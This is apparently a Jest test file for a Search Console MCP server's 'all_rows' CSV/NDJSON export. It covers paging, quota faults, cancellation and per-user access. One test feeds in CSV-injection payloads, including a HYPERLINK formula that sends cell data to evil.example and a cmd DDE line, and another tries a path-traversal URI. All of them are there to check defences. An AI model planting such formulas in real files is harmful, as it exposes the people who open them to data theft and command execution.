import { createServer } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Clock } from '../src/common/clock.js';
import { StandingClock } from './support/manual-clock.js';
import { SEED_PROPERTIES } from '../src/emulator/emulator-seed.js';
import { connectHttp, text, type TestClient } from './support/clients.js';
import { directRows, directSearchConsole, type DirectRow } from './support/direct-google.js';
import { connectAs } from './support/principals.js';
import { type RedisServer, startRedisServer } from './support/redis-server.js';
import { type InProcessServer, startInProcess } from './support/server.js';
import { useStack } from './support/stack.js';
import { roundMetrics } from '../src/analytics/analytics-metrics.js';

const LARGE = SEED_PROPERTIES.large; // https://www.example.net/: ~80 000 rows by date and query over 28 days
const OWNED = SEED_PROPERTIES.owned;
const TOOL = 'query_search_analytics';
// Pacific today is 2026-11-30; final data runs to 11-27, so this window is 28 final days.
const NOW = new Date('2026-11-30T20:30:00Z');
const WINDOW = { start_date: '2026-10-31', end_date: '2026-11-27' };

// The owned property is seeded with a quarter of each day's impressions in anonymised queries.
const SEEDED_SHARE = 0.25;
const { google, client, legacy, server } = useStack({
  google: { now: () => NOW, analytics: { anonymizedShare: { [SEED_PROPERTIES.owned]: SEEDED_SHARE } } },
  overrides: [[Clock, new StandingClock(() => NOW)]],
});

const rowBodies = () =>
  google.emulator
    .apiRequests()
    .filter((r) => r.route === 'searchanalytics.query' && (r.body as any).rowLimit === 25000)
    .map((r) => r.body as Record<string, any>);

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(csv: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        field += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && csv[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      field += ch;
    }
  }
  if (field || record.length) {
    throw new Error('the CSV does not end with a line break');
  }
  return records;
}

async function readResource(c: TestClient, uri: string): Promise<{ mimeType?: string; text: string }> {
  const { contents } = await c.raw.readResource({ uri });
  expect(contents).toHaveLength(1);
  expect(contents[0].uri).toBe(uri);
  return contents[0];
}

/** Every page the server was answered with, asked again directly: "the rows Google returned". */
async function googleRows(site: string, body: Record<string, unknown>, pages: number): Promise<DirectRow[]> {
  const sc = directSearchConsole(google);
  const rows: DirectRow[] = [];
  for (let page = 0; page < pages; page++) {
    rows.push(...(await directRows(sc, site, { ...body, rowLimit: 25000, startRow: page * 25000 })));
  }
  return rows;
}

describe("all_rows: an export past Google's 50 000-row cap", () => {
  let result: any;
  let progress: Array<{ progress: number; total?: number; message?: string }>;
  let pages: Array<Record<string, any>>;
  beforeAll(async () => {
    google.emulator.reset();
    progress = [];
    result = await client.raw.callTool(
      { name: TOOL, arguments: { site_url: LARGE, ...WINDOW, dimensions: ['date', 'query'], all_rows: true } },
      { onprogress: (p: any) => progress.push(p) },
    );
    pages = rowBodies(); // before useStack's beforeEach resets the emulator's log
  });

  it('pages 25 000 at a time and stops at the cap, saying so, with progress on the way', async () => {
    expect(result.isError).toBeFalsy();
    const available = google.emulator.analyticsRowsAvailable(LARGE, {
      startDate: WINDOW.start_date,
      endDate: WINDOW.end_date,
      dimensions: ['date', 'query'],
    });
    expect(available).toBeGreaterThan(60_000); // more rows match than Google serves
    expect(pages.map((b) => [b.startRow, b.rowLimit])).toEqual([
      [0, 25000],
      [25000, 25000],
    ]);
    const out = result.structuredContent;
    expect(out.export).toMatchObject({
      rows: 50_000,
      requests: 2,
      complete: true,
      columns: ['date', 'query', 'clicks', 'impressions', 'ctr', 'position'],
      principal: 'local',
    });
    expect(out.rows_returned).toBeUndefined(); // export.rows counts what was exported; rows are only the first few
    expect(out.data_truth).toMatchObject({
      row_cap: 50_000,
      row_cap_reached: true,
      start_date: WINDOW.start_date,
      end_date: WINDOW.end_date,
      days: 28,
      freshness: 'final',
    });
    expect(out.rows).toHaveLength(10);
    const said = text(result);
    expect(said).toContain(
      "Exported 50000 rows in 2 requests of up to 25000: Google's 50000-row cap was reached, so more rows may match than it serves",
    );
    expect(said).toContain('- Row cap: reached — Google serves at most 50000 rows for one day range and search type');
    expect(said).toContain(`- ${out.export.csv} — CSV, header date,query,clicks,impressions,ctr,position`);
    expect(Buffer.byteLength(JSON.stringify(out)) + Buffer.byteLength(said)).toBeLessThan(100_000);
    expect(progress.map((p) => [p.progress, p.total])).toEqual([
      [1, 2],
      [2, 2],
    ]);
    expect(progress[1].message).toBe('50000 rows stored (page 2 of at most 2)');
  });

  it('links the CSV and NDJSON as resource_link blocks, and the CSV read back holds exactly the rows Google returned', async () => {
    const out = result.structuredContent;
    expect(out.export.csv).toMatch(/^gsc:\/\/exports\/[0-9a-f]{24}\.csv$/);
    expect(result.content.filter((c: any) => c.type === 'resource_link')).toEqual([
      expect.objectContaining({ type: 'resource_link', uri: out.export.csv, mimeType: 'text/csv' }),
      expect.objectContaining({ type: 'resource_link', uri: out.export.ndjson, mimeType: 'application/x-ndjson' }),
    ]);
    const csv = await readResource(client, out.export.csv);
    expect(csv.mimeType).toBe('text/csv');
    const [header, ...records] = parseCsv(csv.text);
    expect(header).toEqual(['date', 'query', 'clicks', 'impressions', 'ctr', 'position']);
    const google = await googleRows(
      LARGE,
      { startDate: WINDOW.start_date, endDate: WINDOW.end_date, dimensions: ['date', 'query'], type: 'web', dataState: 'final' },
      2,
    );
    expect(google).toHaveLength(50_000);
    expect(records).toHaveLength(50_000);
    expect(
      records.map(([date, query, clicks, impressions, ctr, position]) => ({
        keys: [date, query],
        clicks: Number(clicks),
        impressions: Number(impressions),
        ctr: Number(ctr),
        position: Number(position),
      })),
    ).toEqual(google);
    // The files keep Google's full precision; structuredContent rounds CTR to 4 decimals and position to 1, as the text does.
    expect(out.rows).toEqual(google.slice(0, 10).map((r) => ({ keys: r.keys, ...roundMetrics(r) })));
    expect(out.rows_sum.clicks).toBe(google.reduce((s, r) => s + r.clicks, 0));
    // Grouped by query, the whole-property query ran: totals are the property's, above the rows' sum (anonymised queries).
    expect(out.totals.clicks).toBeGreaterThan(out.rows_sum.clicks);

    const ndjson = await readResource(legacy, out.export.ndjson); // the same principal on the other protocol revision
    const lines = ndjson.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toHaveLength(50_000);
    expect(lines[0]).toEqual({
      date: google[0].keys[0],
      query: google[0].keys[1],
      clicks: google[0].clicks,
      impressions: google[0].impressions,
      ctr: google[0].ctr,
      position: google[0].position,
    });
    expect(lines.map((l) => [l.date, l.query, l.clicks])).toEqual(google.map((r) => [...r.keys, r.clicks]));
  });

  it('lists the export in resources/list, and declares the resources capability', async () => {
    const out = result.structuredContent;
    const { resources } = await client.raw.listResources();
    expect(resources).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          uri: out.export.csv,
          mimeType: 'text/csv',
          description: expect.stringContaining("50000 rows, web search, data_state final, stopped at Google's 50 000-row cap"),
        }),
        expect.objectContaining({ uri: out.export.ndjson, mimeType: 'application/x-ndjson' }),
      ]),
    );
    expect(legacy.raw.getServerCapabilities().resources).toBeDefined();
  });
});

describe('all_rows: an export under the cap', () => {
  it('stops at the first short page, and its data truth measures the anonymised share exactly as seeded', async () => {
    google.emulator.reset();
    const result = await client.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['query'], all_rows: true });
    const out = result.structuredContent!;
    expect(rowBodies()).toHaveLength(1);
    expect(out.export).toMatchObject({ requests: 1, complete: true });
    expect(out.data_truth.row_cap_reached).toBe(false);
    const seeded = google.emulator.anonymizedShare(OWNED, { startDate: WINDOW.start_date, endDate: WINDOW.end_date });
    expect(out.data_truth.unattributed).toMatchObject({
      clicks: seeded.clicks,
      impressions: seeded.impressions,
      property_clicks: seeded.totalClicks,
      property_impressions: seeded.totalImpressions,
      listed_rows_complete: true,
    });
    expect(out.data_truth.unattributed.impression_share).toBeCloseTo(seeded.impressionShare, 4);
    expect(out.data_truth.unattributed.impression_share).toBeCloseTo(SEEDED_SHARE, 3);
    expect(text(result)).toContain(
      `of impressions (${seeded.impressions} of ${seeded.totalImpressions}), measured against a whole-property query — anonymised queries, which Google leaves out of query rows.`,
    );
    expect(text(result)).toContain('Exported');
    expect(text(result)).not.toMatch(/cap was reached/);
  });

  it('answers no data without storing anything', async () => {
    const result = await client.call(TOOL, { site_url: OWNED, period: 'today', data_state: 'final', all_rows: true });
    expect(result.isError).toBeFalsy();
    expect(result.structuredContent!.export).toBeUndefined();
    expect(result.content.some((c) => c.type === 'resource_link')).toBe(false);
    expect(text(result)).toMatch(/No data for .*\nNothing was stored\./);
  });

  it('keeps the pages it has when Google refuses a later one, and says so', async () => {
    google.emulator.reset();
    google.emulator.injectFault({
      route: 'searchanalytics.query',
      status: 429,
      message: 'Search Analytics load quota exceeded (long-term).',
      bodyMatches: { startRow: 25000 },
    });
    const result = await client.call(TOOL, { site_url: LARGE, ...WINDOW, dimensions: ['date', 'query'], all_rows: true });
    expect(result.isError).toBeFalsy();
    const out = result.structuredContent!;
    expect(out.export).toMatchObject({ rows: 25_000, requests: 2, complete: false, stopped: expect.stringMatching(/daily quota/) });
    expect(out.data_truth.row_cap_reached).toBe(false);
    expect(text(result)).toMatch(
      /The export is incomplete: Google refused a later page, so it holds the first 25000 rows only\. .*daily quota/,
    );
    const csv = await readResource(client, out.export.csv);
    expect(parseCsv(csv.text)).toHaveLength(25_001);
  });

  it('keeps nothing of an export the client cancels: no Google call after the page in flight, nothing stored or listed', async () => {
    google.emulator.reset();
    google.emulator.setLatency('searchanalytics.query', 600);
    const uris = async () => (await client.raw.listResources()).resources.map((r: any) => r.uri).sort();
    const before = await uris();
    const controller = new AbortController();
    const call = client.raw.callTool(
      { name: TOOL, arguments: { site_url: LARGE, ...WINDOW, dimensions: ['date', 'query'], all_rows: true } },
      { signal: controller.signal, onprogress: () => controller.abort() }, // cancel once the first page is stored
    );
    await expect(call).rejects.toThrow();
    await new Promise((resolve) => setTimeout(resolve, 1500)); // the page in flight comes back; nothing follows it
    // The second page is sent unless the cancel reached the server first; either way nothing follows it.
    expect([[0], [0, 25000]]).toContainEqual(rowBodies().map((b) => b.startRow));
    expect(await uris()).toEqual(before);
  });

  it.each([
    [{ compare: 'previous_period' }, /compare do(es)? not apply/],
    [{ row_limit: 10 }, /row_limit does not apply/],
    [{ start_row: 10, row_limit: 5 }, /row_limit and start_row do not apply/],
  ])('refuses %j with all_rows before sending anything', async (extra, message) => {
    google.emulator.reset();
    const result = await client.call(TOOL, { site_url: OWNED, all_rows: true, ...extra });
    expect(result.isError).toBe(true);
    expect(text(result)).toMatch(message);
    expect(text(result)).toContain('Nothing was sent to Google.');
    expect(google.emulator.apiRequests().filter((r) => r.route === 'searchanalytics.query')).toHaveLength(0);
  });
});

// Query text is typed by the public. Google's page of rows is replaced (a 200 fault, matched on the
// export's 25 000-row pages) by rows whose queries a spreadsheet would run as formulas.
describe('an export of queries that look like spreadsheet formulas', () => {
  const HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"prices")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    'plain query',
    "'already quoted",
  ];
  const rows = HOSTILE.map((query, i) => ({ keys: [query], clicks: 10 - i, impressions: 100, ctr: (10 - i) / 100, position: 1.5 + i }));

  it('neutralises them in the CSV (quoted, with a leading apostrophe), keeps the NDJSON exact, and the resource says which is which', async () => {
    google.emulator.reset();
    google.emulator.injectFault({
      route: 'searchanalytics.query',
      status: 200,
      body: { rows, responseAggregationType: 'byProperty' },
      bodyMatches: { rowLimit: 25000 },
    });
    const made = await client.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['query'], all_rows: true });
    expect(made.isError).toBeFalsy();
    const { csv, ndjson } = made.structuredContent!.export;

    const [header, ...records] = parseCsv((await readResource(client, csv)).text);
    expect(header).toEqual(['query', 'clicks', 'impressions', 'ctr', 'position']);
    const cells = records.map((r) => r[0]);
    expect(cells).toEqual(HOSTILE.map((q) => (/^[=+\-@\t\r]/.test(q) ? `'${q}` : q)));
    // No cell a spreadsheet reads starts a formula; numbers stay numbers.
    for (const record of records) {
      for (const cell of record) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(records.map((r) => Number(r[1]))).toEqual(rows.map((r) => r.clicks));
    // The raw CSV quotes every neutralised cell, as OWASP advises.
    expect((await readResource(client, csv)).text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""prices"")",10,`);

    const lines = (await readResource(legacy, ndjson)).text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => l.query)).toEqual(HOSTILE);

    const { resourceTemplates } = await client.raw.listResourceTemplates();
    const template = resourceTemplates.find((t: any) => t.name === 'exports');
    expect(template.description).toMatch(
      /CSV is for spreadsheets: a text cell that starts with =, \+, -, @, a tab or a carriage return is written with a leading apostrophe/,
    );
    expect(template.description).toMatch(/NDJSON carries Google's values exactly/);
  });
});

describe('exports belong to the principal who asked', () => {
  // Two people on one server (one Nest app, one state store): the app's McpServerFactory builds each
  // one's server with their own authInfo.clientId, as the HTTP layer does for authenticated requests.
  let alice: TestClient;
  let bob: TestClient;
  beforeAll(async () => {
    alice = await connectAs(server, 'alice@example.com');
    bob = await connectAs(server, 'bob@example.com');
  });
  afterAll(async () => {
    await alice?.close();
    await bob?.close();
  });

  it("bob can neither read nor list alice's export; alice can", async () => {
    const made = await alice.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['page'], all_rows: true });
    const { csv, ndjson, principal } = made.structuredContent!.export;
    expect(principal).toBe('alice@example.com');
    expect(text(made)).toContain('readable only by the principal that asked (alice@example.com)');
    expect((await readResource(alice, csv)).text).toMatch(/^page,clicks,impressions,ctr,position\r\n/);
    for (const uri of [csv, ndjson]) {
      await expect(bob.raw.readResource({ uri })).rejects.toThrow(/not found/i);
    }
    expect((await bob.raw.listResources()).resources.map((r: any) => r.uri)).not.toContain(csv);
    expect((await alice.raw.listResources()).resources.map((r: any) => r.uri)).toEqual(expect.arrayContaining([csv, ndjson]));
    // The local (unauthenticated) caller is a third principal.
    await expect(client.raw.readResource({ uri: csv })).rejects.toThrow(/not found/i);
  });

  it('answers an unknown or malformed export name as not found', async () => {
    for (const uri of ['gsc://exports/0123456789abcdef01234567.csv', 'gsc://exports/../state.sqlite', 'gsc://exports/nothing.txt']) {
      await expect(alice.raw.readResource({ uri })).rejects.toThrow(/not found/i);
    }
  });
});

describe('exports live in the state store, not in a process', () => {
  // Two replicas sharing one Redis, both taking the same GSC_HTTP_TOKEN (one principal); bob is a
  // second principal on the second replica, built by its own McpServerFactory (see connectAs).
  const TOKEN = 'shared-token-0123456789abcdef';
  let redis: RedisServer;
  const servers: InProcessServer[] = [];
  const clients: TestClient[] = [];
  beforeAll(async () => {
    redis = await startRedisServer();
    for (let i = 0; i < 2; i++) {
      const replica = await startInProcess({ ...google.env, GSC_REDIS_URL: redis.url, GSC_HTTP_TOKEN: TOKEN }, [
        [Clock, new StandingClock(() => NOW)],
      ]);
      servers.push(replica);
      clients.push(await connectHttp(replica.url, { revision: '2026-07-28' }, { authorization: `Bearer ${TOKEN}` }));
    }
    clients.push(await connectAs(servers[1], 'bob@example.com'));
  }, 30_000);
  afterAll(async () => {
    for (const c of clients) {
      await c.close();
    }
    for (const s of servers) {
      await s.close();
    }
    await redis?.stop();
  });

  it('says so when the store cannot keep the rows, and keeps nothing', async () => {
    const closed = await new Promise<number>((resolve) => {
      const probe = createServer().listen(0, '127.0.0.1', () => {
        const { port } = probe.address() as { port: number };
        probe.close(() => resolve(port));
      });
    });
    const down = await startInProcess(
      { ...google.env, GSC_REDIS_URL: `redis://127.0.0.1:${closed}/0`, GSC_APPROVAL_SECRET: 'a'.repeat(40) },
      [[Clock, new StandingClock(() => NOW)]],
    );
    const c = await connectHttp(down.url, { revision: '2026-07-28' });
    try {
      const result = await c.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['query'], all_rows: true });
      expect(result.isError).toBe(true);
      expect(text(result)).toMatch(
        /^all_rows keeps the rows in the state store for 24 hours, and the state store \(Redis at redis:\/\/127\.0\.0\.1:\d+\/0\) cannot be reached: .*so no export was kept\. Nothing was changed\. .*ask without all_rows/,
      );
    } finally {
      await c.close();
      await down.close();
    }
  }, 20_000);

  it('is read back on another replica by the same principal, and by no one else', async () => {
    const [alice, aliceElsewhere, bob] = clients;
    const made = await alice.call(TOOL, { site_url: LARGE, ...WINDOW, dimensions: ['date', 'query'], all_rows: true });
    expect(made.isError).toBeFalsy();
    const { csv, rows, principal } = made.structuredContent!.export;
    expect(rows).toBe(50_000);
    expect(principal).not.toBe('local'); // the bearer token's principal
    const again = await readResource(aliceElsewhere, csv);
    expect(again.text.split('\r\n')).toHaveLength(50_002); // header, 50 000 rows, and the empty string after the last line break
    expect((await aliceElsewhere.raw.listResources()).resources.map((r: any) => r.uri)).toContain(csv);
    await expect(bob.raw.readResource({ uri: csv })).rejects.toThrow(/not found/i);
  });
});
